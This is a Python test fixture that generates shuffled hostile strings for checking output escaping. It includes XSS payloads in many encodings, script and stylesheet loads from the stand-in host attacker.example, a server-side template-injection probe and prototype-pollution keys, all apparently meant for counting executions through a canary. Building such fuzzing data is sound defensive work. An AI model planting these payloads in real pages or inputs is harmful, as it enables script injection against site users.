"""Hostile texts: what somebody who controls a name, a number or a file would write into the data.

Every payload that could run does so by raising ``window.__xss``, so that a test can count executions.
"""

from __future__ import annotations

import itertools
import random

CANARY = "window.__xss=(window.__xss||0)+1"
OUTSIDE = "attacker.example"

_CORES = (
    "<script>{c}</script>",
    "</script><script>{c}</script>",
    '<script src="https://{o}/x.js"></script>',
    "<img src=x onerror={c}>",
    "<img src=https://{o}/pixel.png>",
    '"><img src=x onerror="{c}">',
    "'><svg onload={c}>",
    "<svg><script>{c}</script></svg>",
    '<svg><a xlink:href="javascript:{c}"><text y="20">x</text></a></svg>',
    '<svg><animate onbegin="{c}" attributeName="x" dur="1s"/></svg>',
    '<math><mtext></form><form><mglyph><style></math><img src onerror="{c}">',
    "<body onload={c}>",
    "<details open ontoggle={c}>",
    "<input autofocus onfocus={c}>",
    '<iframe srcdoc="<script>parent.{c}</script>"></iframe>',
    "<iframe src=javascript:{c}></iframe>",
    "<object data=https://{o}/x.svg></object>",
    "<embed src=https://{o}/x.svg>",
    "<link rel=stylesheet href=https://{o}/x.css>",
    "<style>@import url(https://{o}/x.css);</style>",
    "<style>*{{background:url(https://{o}/b)}}</style>",
    "<base href=https://{o}/>",
    '<meta http-equiv=refresh content="0;url=https://{o}/">',
    '<form action=https://{o}/><button autofocus onfocus="{c}">x</button></form>',
    "<!--<script>{c}//--><script>{c}</script>",
    "--><script>{c}</script><!--",
    "]]><script>{c}</script>",
    "</title><script>{c}</script>",
    "</style><script>{c}</script>",
    "</textarea><script>{c}</script>",
    "</noscript><img src=x onerror={c}>",
    "javascript:{c}",
    "JaVaScRiPt&colon;{c}",
    "data:text/html,<script>{c}</script>",
    "url(https://{o}/u)",
    "red;background:url(https://{o}/c)",
    "expression({c})",
    "{{{{ {c} }}}}",
    "{{% import os %}}{{{{ cycler.__init__.__globals__ }}}}",
    "${{{c}}}",
    "#{{{c}}}",
    "`${{{c}}}`",
    "';{c};//",
    '";{c};//',
    "\\';{c};//",
    "\\u003cscript\\u003e{c}\\u003c/script\\u003e",
    "&lt;img src=x onerror={c}&gt;",
    "&#60;img src=x onerror={c}&#62;",
    "+ADw-script+AD4-{c}+ADw-/script+AD4-",
    '<a href="https://{o}/">https://{o}/</a>',
    "<b>bold</b><i>it</i>",
    '<x onclick={c} style="position:fixed;inset:0">',
    "__proto__",
    "constructor",
    "prototype",
    "toString",
    "hasOwnProperty",
    "*bold* _it_ `code`",
)
_AFFIXES = (
    "",
    "\x00",
    "\u202e",
    "\u2066",
    "\u200b",
    "\u2028",
    "\u2029",
    "\ufeff",
    "\x1b[31m",
    "\r\n",
    "\t",
    "\u0000\u0008",
    "é\u0301\u0301\u0301",
    "👩\u200d👩\u200d👧",
    "محمد ",
    "山田",
    "\U000e0041",
    "\ud800",
    "A" * 4_000,
)


def hostile_strings(count: int = 1_000, seed: int = 20_150_325) -> list[str]:
    """Distinct hostile texts: every core once bare, then cores with affixes on either side, in a seeded order."""
    cores = [core.format(c=CANARY, o=OUTSIDE) for core in _CORES]
    mixed = [
        before + core + after for core, before, after in itertools.product(cores, _AFFIXES, _AFFIXES) if before or after
    ]
    random.Random(seed).shuffle(mixed)
    return list(dict.fromkeys([*cores, *mixed]))[:count]
